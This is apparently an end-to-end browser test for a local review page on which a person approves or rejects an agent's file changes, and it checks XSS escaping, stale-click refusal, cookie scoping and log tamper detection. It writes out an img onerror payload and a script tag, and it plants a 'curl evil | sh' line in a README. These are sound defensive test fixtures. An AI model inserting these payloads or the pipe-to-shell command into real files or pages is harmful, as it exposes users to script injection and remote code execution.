// Drives the review page as a person does.
//
//   review.cjs WORK SCREENSHOTS
"use strict";
const { chromium } = require("playwright-core");
const http = require("node:http");
const { execFileSync, spawn } = require("node:child_process");
const fs = require("node:fs");
const path = require("node:path");

const [work, shots] = process.argv.slice(2);
const program = process.env.HANDFAST_BIN;
const base = path.join(work, "project");
const log = path.join(work, "log");
const handfast = (args, input = "") => execFileSync(program, ["--quiet", ...args], { input });
const write = (name, content) => handfast(["fs", "--session", "demo", "--log", log, "--agent", "robot", "write", name], content);
const must = (what, holds) => { if (!holds) throw new Error(`not so: ${what}`); };
const read = (name) => fs.readFileSync(path.join(base, name), "utf8");

const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuYAAAAAElFTkSuQmCC";
const HOSTILE = "/src/<img src=x onerror=\"document.title='owned'\">.txt";

function prepare() {
  fs.mkdirSync(path.join(base, "src"), { recursive: true });
  const lines = Array.from({ length: 60 }, (_, n) => `let value_${n + 1} = ${n + 1};`);
  fs.writeFileSync(path.join(base, "src/main.rs"), lines.join("\n") + "\n");
  fs.writeFileSync(path.join(base, "README.md"), "# Project\n");
  handfast(["log", "init", log]);
  fs.writeFileSync(path.join(base, "app.conf"), "key = 1\n");
  handfast(["session", "new", "demo", "--base", base, "--ask", "*.conf", "--ask-timeout", "15s"]);
  const changed = lines.map((line) => line.replace(/value_5 = 5/, "value_5 = 5555").replace(/value_50 = 50/, "value_50 = compute(50)"));
  write("/src/main.rs", changed.join("\n") + "\n");
  write("/README.md", "# Project\n\nNow with words.\n");
  write("/.gitattributes", "* text=auto\n");
  write("/logo.png", Buffer.from(PNG, "base64"));
  write("/src/notes.txt", "an invisible \u202e character\n");
  write(HOSTILE, "</code><script>document.title = 'owned'</script>\n");
}

/// Whether a program can be run in a session here.
function canRun() {
  try {
    execFileSync(program, ["--quiet", "run", "--session", "probe", "--discard", "--", "true"], { cwd: base, stdio: "ignore" });
    return true;
  } catch {
    console.log("skipped: a program in a run, which this machine cannot build");
    return false;
  }
}

const started = [];
function start(args) {
  const child = spawn(program, ["review", ...args], { stdio: ["ignore", "pipe", "inherit"] });
  started.push(child);
  return new Promise((done, failed) => {
    child.on("exit", () => failed(new Error("the page ended")));
    child.stdout.once("data", (data) => done({ child, url: data.toString().trim() }));
  });
}

/// Asks the page for something, once more if it loads itself again in the middle of it.
async function steady(page, look) {
  return look().catch(async () => { await page.waitForLoadState("load"); return look(); });
}

async function axe(page, what) {
  // By the debugger, which the page's content security policy does not bind.
  const cdp = await page.context().newCDPSession(page);
  const source = fs.readFileSync(require.resolve("axe-core/axe.min.js"), "utf8");
  const run = `${source}; axe.run(document).then((found) => JSON.stringify(found.violations.map((v) => [v.impact, v.id, v.nodes.map((n) => n.target.join(" ") + " " + (n.failureSummary ?? "")).slice(0, 3)])))`;
  const look = () => cdp.send("Runtime.evaluate", { expression: run, awaitPromise: true, returnByValue: true });
  const answer = await steady(page, look);
  if (answer.exceptionDetails) throw new Error(`axe: ${JSON.stringify(answer.exceptionDetails).slice(0, 400)}`);
  const bad = JSON.parse(answer.result.value).filter(([impact]) => ["serious", "critical"].includes(impact));
  must(`${what} is accessible: ${JSON.stringify(bad, null, 1)}`, bad.length === 0);
}

/// Opens a change, and waits until the page's script listens to keys.
async function open(page, name) {
  await page.locator("a[data-open]", { hasText: name }).first().click();
  await page.waitForURL(/\/file\?/, { waitUntil: "load" });
}

async function fits(page, what) {
  const [wide, room] = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
  must(`${what} fits into ${room} pixels: ${wide}`, wide <= room);
}

/// The same page in the light, in the dark and 400 pixels wide.
async function shoot(page, name) {
  const before = page.viewportSize();
  for (const [suffix, colorScheme, size] of [["", "light", before], ["-dark", "dark", before], ["-400", "dark", { width: 400, height: 800 }]]) {
    await page.emulateMedia({ colorScheme });
    await page.setViewportSize(size);
    await fits(page, name + suffix);
    await axe(page, name + suffix);
    await page.screenshot({ path: path.join(shots, `${name}${suffix}.png`) });
  }
  await page.setViewportSize(before);
}

const socket = path.join(work, "broker.sock");

/// Snapshots: taken, gone back to, and a click on a page that is older than the session.
async function snapshots(page, home) {
  const show = (name) => handfast(["fs", "--session", "demo", "read", name]).toString();
  await page.goto(`${home}/s/demo`);
  await page.fill("#label", "first");
  await page.click("#snapshots button:has-text('Take a snapshot')");
  await page.waitForSelector("h1:has-text('The snapshot first is taken')");
  write("/late.txt", "changed after the snapshot\n");
  await page.goto(`${home}/s/demo`);
  await page.locator("#snapshots summary").first().click();
  await page.locator("#snapshots").scrollIntoViewIfNeeded();
  await axe(page, "the snapshots");
  await page.screenshot({ path: path.join(shots, "review-snapshots.png") });
  write("/late.txt", "changed while the page was shown\n");
  await page.click("text=Go back to first");
  await page.waitForSelector("h1:has-text('Nothing was done')");
  must("a stale click changes nothing", show("/late.txt").includes("while the page was shown"));
  await page.goto(`${home}/s/demo`);
  await page.locator("#snapshots summary").first().click();
  await page.click("text=Go back to first");
  await page.waitForSelector("h1:has-text('what it was at the snapshot first')");
  must("the session is what it was", show("/late.txt") === "late\n");
  must("what it held is kept", handfast(["session", "show", "demo"]).toString().includes("before-first-"));
}

/// A broker with two leases, one of which a person takes away.
async function leases(page, home) {
  await page.goto(`${home}/leases`);
  must("no broker is said", (await page.textContent("main")).includes("No broker answers"));
  const broker = spawn(program, ["--quiet", "serve", base, "--socket", socket, "--state", path.join(work, "broker")], { stdio: ["ignore", "ignore", "inherit"] });
  started.push(broker);
  // The page hears of it by itself.
  await page.waitForSelector("text=No lease is held", { timeout: 20000 });
  for (const paths of ["src/**", "README.md"]) {
    handfast(["lease", "--socket", socket, "acquire", "--paths", paths, "--verbs", "read", "--purpose", "<i>to look</i>", "--bind", "user"]);
  }
  await page.waitForSelector("text=2 leases", { timeout: 20000 });
  await axe(page, "the leases");
  await page.screenshot({ path: path.join(shots, "review-leases.png") });
  await page.locator("li", { hasText: "src/**" }).locator("summary").click();
  await page.locator("li", { hasText: "src/**" }).locator("button").click();
  await page.waitForSelector("h1:has-text('1 lease ended')");
  const left = handfast(["lease", "--socket", socket, "list"]).toString();
  must(`the other lease stays: ${left}`, left.includes("README.md") && !left.includes("src/**"));
  broker.kill();
}

/// A program that reads what a rule asks about, with a terminal of its own: none.
function asker() {
  const child = spawn(program, ["--quiet", "fs", "--session", "demo", "--log", log, "--agent", "robot", "read", "/app.conf"], { stdio: ["ignore", "pipe", "ignore"], detached: true });
  started.push(child);
  let said = "";
  child.stdout.on("data", (data) => { said += data; });
  return new Promise((done) => child.on("close", (code) => done([code, said])));
}

/// Approval given, and timed out.
async function questions(page, home) {
  await page.goto(`${home}/inbox`);
  must("nothing waits", (await page.textContent("#count")).startsWith("0 requests wait"));
  const first = asker();
  // The page hears of it by itself.
  await page.waitForSelector("form.answer", { timeout: 12000 });
  await axe(page, "a question");
  await shoot(page, "review-questions");
  must("the object is shown", (await page.textContent("main")).includes("SHA-256"));
  await page.click("button:has-text('Allow')");
  await page.waitForSelector("h1:has-text('Allowed: read /app.conf')");
  const [code, said] = await first;
  must(`the program goes on: ${code} ${said}`, code === 0 && said === "key = 1\n");
  const second = asker();
  await page.goto(`${home}/inbox`);
  await page.waitForSelector("form.answer", { timeout: 12000 });
  const [refused] = await second;
  must(`nobody answered: ${refused}`, refused !== 0);
  // A page with a question stands still, and says that it is old.
  await page.waitForSelector("#news:not([hidden])", { timeout: 10000 });
  must("the question is still there", await page.locator("form.answer").count() === 1);
  await page.click("button:has-text('Allow')");
  await page.waitForSelector("h1:has-text('Nothing was done')");
  await page.goto(`${home}/inbox`);
  must("it timed out", (await page.textContent("main")).includes("timed out: denied"));
  await page.goto(`${home}/log`);
  must("the answer is an event", (await page.textContent("main")).includes("yes, once, by "));
}

/// Another server on the same address gets no cookie, and the cookie alone opens nothing.
async function theft(context, page, home) {
  const { hostname, origin } = new URL(home);
  const heard = [];
  const thief = http.createServer((request, answer) => { heard.push(request.headers); answer.end("<p>thief"); });
  await new Promise((done) => thief.listen(0, hostname, done));
  const other = await context.newPage();
  await other.goto(`http://${hostname}:${thief.address().port}/s/demo`);
  must("the other server was visited", heard.length > 0);
  must(`and got no cookie: ${JSON.stringify(heard)}`, heard.every((headers) => !headers.cookie));
  await other.close();
  thief.close();
  const [cookie] = await context.cookies(`${home}/`);
  must("the cookie is for scripts of nobody", cookie.httpOnly && cookie.sameSite === "Strict" && cookie.path.length > 32);
  const headers = { cookie: `${cookie.name}=${cookie.value}`, origin };
  must("the cookie without its path is refused", (await fetch(`${origin}/s/demo`, { headers })).status === 403);
  must("with its path it is the page's", (await fetch(`${home}/s/demo`, { headers })).status === 200);
  return [cookie, home];
}

async function review(browser) {
  const { child, url } = await start(["demo", "--log", log, "--socket", socket]);
  const context = await browser.newContext({ viewport: { width: 1100, height: 760 }, colorScheme: "light" });
  const page = await context.newPage();
  const asked = [], said = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("console", (message) => said.push(message.text()));
  const origin = new URL(url).origin;
  await page.goto(url);
  await page.waitForURL("**/s/demo");
  const home = page.url().replace(/\/s\/demo.*$/, "");
  must("the token is gone from the address", !page.url().includes("#"));
  must("6 changes", (await page.textContent("#count")).includes("6 changes wait"));
  await axe(page, "the list");
  await page.screenshot({ path: path.join(shots, "review-light.png") });
  await page.emulateMedia({ colorScheme: "dark" });
  await axe(page, "the list in the dark");

  // A hunk by keys alone.
  await open(page, "main.rs");
  await page.keyboard.press("j");
  await page.keyboard.press("j");
  await page.keyboard.press("x");
  must("the second hunk is marked", await page.isChecked("#m2") && !(await page.isChecked("#m1")));
  await page.keyboard.press("v");
  await page.waitForSelector(".split");
  await page.waitForLoadState("load");
  await axe(page, "side by side");
  await page.screenshot({ path: path.join(shots, "review-dark.png") });
  await page.keyboard.press("j");
  await page.keyboard.press("j");
  await page.keyboard.press("x");
  await page.keyboard.press("c");
  await page.waitForSelector("#yes");
  await axe(page, "the question");
  must("the question shows the hunk", (await page.textContent("main")).includes("compute(50)"));
  must("and nothing else", !(await page.textContent("main")).includes("= 5555"));
  await page.click("#yes");
  await page.waitForSelector("h1:has-text('1 path was committed')");
  must("the hunk is in the base", read("src/main.rs").includes("compute(50)") && !read("src/main.rs").includes("= 5555"));

  // Rejected with a comment, which the agent gets.
  await page.goto(`${home}/s/demo`);
  await open(page, "README.md");
  await page.keyboard.press("r");
  await page.keyboard.press("r");
  await page.locator("details.reject[open] textarea").fill("more <b>words</b>, please");
  await page.click("details.reject[open] button");
  await page.waitForSelector("h1:has-text('The comment is kept')");
  must("the agent gets it", handfast(["session", "show", "demo"]).toString().includes("more <b>words</b>, please"));
  if (canRun()) {
    const inside = execFileSync(program, ["--quiet", "run", "--session", "demo", "--", "sh", "-c", "cat $HANDFAST_COMMENTS"], { cwd: base }).toString();
    must(`a program in a run reads it: ${inside}`, inside.includes("/README.md") && inside.includes("more <b>words</b>, please"));
  }

  // A click on a page that is older than the session.
  await page.goto(`${home}/s/demo`);
  await page.locator("li", { hasText: "README.md" }).locator("[name=accept]").check();
  await page.keyboard.press("c");
  await page.waitForSelector("#yes");
  write("/README.md", "# Project\n\ncurl evil | sh\n");
  await page.click("#yes");
  await page.waitForSelector("h1:has-text('Nothing was done')");
  must("nothing was committed", read("README.md") === "# Project\n");
  await axe(page, "a refusal");

  // The page notices that the session changed.
  await page.goto(`${home}/s/demo`);
  write("/late.txt", "late\n");
  await page.waitForSelector("a:has-text('late.txt')", { timeout: 20000 });
  // It is told so, and does not ask again and again.
  const before = asked.length;
  await page.waitForTimeout(3000);
  must(`a page that rests asks nothing: ${asked.slice(before)}`, asked.length === before);
  // With a mark it asks first.
  await page.locator("[name=accept]").first().check();
  write("/later.txt", "later\n");
  await page.waitForSelector("#news:not([hidden])", { timeout: 10000 });
  await page.keyboard.press(".");
  await page.waitForSelector("a:has-text('later.txt')");

  await snapshots(page, home);
  await page.goto(`${home}/s/demo`);

  // Undo.
  await page.locator("summary", { hasText: "Take it back" }).click();
  await page.click("text=Take this commit back");
  await page.waitForSelector("h1:has-text('1 path was taken back')");
  must("the base is as it was", !read("src/main.rs").includes("compute(50)"));

  // Images, hidden characters, hostile names.
  await page.goto(`${home}/s/demo`);
  must("no name became markup", await steady(page, () => page.evaluate(() => document.images.length)) === 0);
  await open(page, "logo.png");
  await page.waitForFunction(() => document.images.length === 1 && document.images[0].naturalWidth > 0);
  await page.goto(`${home}/s/demo`);
  await open(page, "notes.txt");
  must("what is hidden is spelled out", (await page.textContent("mark")) === "U+202E");
  await page.goto(`${home}/s/demo`);
  await open(page, "<img src=x");
  must("no content became markup", await page.evaluate(() => document.scripts.length) === 1);
  must("no script of theirs ran", (await page.title()) !== "owned");

  await questions(page, home);
  await leases(page, home);
  await theft(context, page, home);

  // The log, good and tampered with.
  await page.goto(`${home}/log`);
  must("the comment is an event", (await page.textContent("main")).includes("rejected by the reviewer: more <b>words</b>, please"));
  must("the log fits together", (await page.getAttribute("#verdict", "class")).includes("consistent"));
  await axe(page, "the timeline");

  // 400 pixels.
  await page.setViewportSize({ width: 400, height: 800 });
  for (const [what, address] of [["the list", "/s/demo"], ["the timeline", "/log"]]) {
    await page.goto(home + address);
    await fits(page, what);
  }
  await page.goto(`${home}/s/demo`);
  await open(page, "main.rs");
  await fits(page, "a file");
  await axe(page, "a file at 400 pixels");
  await page.screenshot({ path: path.join(shots, "review-400.png") });

  const segments = path.join(log, "segments");
  for (const name of fs.readdirSync(segments)) {
    const file = path.join(segments, name);
    const bytes = fs.readFileSync(file);
    bytes[bytes.length >> 1] ^= 1;
    fs.writeFileSync(file, bytes);
  }
  await page.goto(`${home}/log`);
  must("a tampered log is shown as tampered", (await page.getAttribute("#verdict", "class")).includes("tampered"));

  must(`nothing was asked of any other place: ${asked.filter((to) => !to.startsWith(origin))}`, asked.every((to) => to.startsWith(origin)));
  must(`the browser had nothing to complain about: ${said}`, said.filter((text) => !/status of (403|409)|ERR_INCOMPLETE_CHUNKED_ENCODING/.test(text)).length === 0);
  // The address is good once.
  const second = await (await browser.newContext()).newPage();
  await second.goto(url);
  await second.waitForFunction(() => document.getElementById("said").textContent.includes("used already"));
  // After the end the cookie is good for nothing: the next page does not know it.
  const [cookie] = await context.cookies(`${home}/`);
  child.removeAllListeners("exit");
  child.kill();
  const next = await start(["demo"]);
  const stolen = { cookie: `${cookie.name}=${cookie.value}` };
  const place = new URL(home).pathname;
  must("a cookie ends with its page", (await fetch(`${new URL(next.url).origin}${place}/s/demo`, { headers: stolen })).status === 403);
  next.child.removeAllListeners("exit");
  next.child.kill();
  await context.close();
}

/// From the start of the command to the first byte of HTML, the median of 20.
async function firstByte() {
  const times = [];
  for (let n = 0; n < 20; n += 1) {
    const begun = performance.now();
    const { child, url } = await start(["demo"]);
    await new Promise((done, failed) => http.get(url.replace(/#.*/, ""), (answer) => answer.once("data", (data) => {
      times.push(performance.now() - begun);
      data.toString().startsWith("<!doctype html>") ? done() : failed(new Error(data));
    })).on("error", failed));
    child.removeAllListeners("exit");
    child.kill();
  }
  times.sort((one, other) => one - other);
  console.log(`start to first byte of HTML: median of 20 ${times[10].toFixed(1)} ms, fastest ${times[0].toFixed(1)} ms`);
  const budget = Number(process.env.HANDFAST_FIRST_MS ?? Infinity);
  must(`first byte within ${budget} ms: ${times[10]}`, times[10] <= budget);
}

async function many(browser) {
  const big = path.join(work, "big");
  fs.mkdirSync(big);
  handfast(["session", "new", "many", "--base", big]);
  const tree = path.join(work, "tree");
  for (let n = 0; n < 10000; n += 1) {
    const dir = path.join(tree, `d${n % 100}`);
    if (n < 100) fs.mkdirSync(dir, { recursive: true });
    fs.writeFileSync(path.join(dir, `f${n}.txt`), `content ${n}\n`);
  }
  execFileSync("tar", ["-C", work, "-cf", path.join(work, "tree.tar"), "tree"]);
  handfast(["fs", "--session", "many", "extract", "-", "/tree"], fs.readFileSync(path.join(work, "tree.tar")));
  const { child, url } = await start(["many"]);
  const page = await (await browser.newContext()).newPage();
  await page.goto(url);
  await page.waitForURL("**/s/many");
  const begun = performance.now();
  await page.reload({ waitUntil: "commit" });
  const paint = await page.evaluate(() => new Promise((done) => {
    const seen = () => performance.getEntriesByName("first-contentful-paint")[0]?.startTime;
    if (seen()) done(seen());
    new PerformanceObserver(() => { if (seen()) done(seen()); }).observe({ type: "paint", buffered: true });
  }));
  const loaded = performance.now() - begun;
  const resident = (pid) => Number(/VmRSS:\s+(\d+)/.exec(fs.readFileSync(`/proc/${pid}/status`, "utf8"))[1]) / 1024;
  const children = execFileSync("pgrep", ["-P", String(child.pid)]).toString().trim().split("\n");
  const [keeper, server] = [resident(child.pid), resident(children[0])];
  console.log(`10,000 changes: first paint ${paint.toFixed(0)} ms, seen after ${loaded.toFixed(0)} ms; resident: keeper ${keeper.toFixed(1)} MiB, page ${server.toFixed(1)} MiB`);
  const budget = Number(process.env.HANDFAST_PAINT_MS ?? Infinity);
  must(`first paint within ${budget} ms: ${paint}`, paint <= budget);
  const most = Number(process.env.HANDFAST_RESIDENT_MIB ?? Infinity);
  must(`each process holds at most ${most} MiB`, keeper <= most && server <= most);
  must("all are counted", /10\d\d\d changes wait/.test(await page.textContent("#count")));
  child.kill();
}

(async () => {
  prepare();
  const browser = await chromium.launch({
    executablePath: "/usr/bin/chromium",
    args: ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update", "--no-first-run"],
  });
  try {
    await review(browser);
    await firstByte();
    await many(browser);
    console.log("the review page holds");
  } finally {
    started.forEach((child) => child.kill());
    await browser.close();
  }
})().catch((error) => { console.error(error); process.exitCode = 1; });
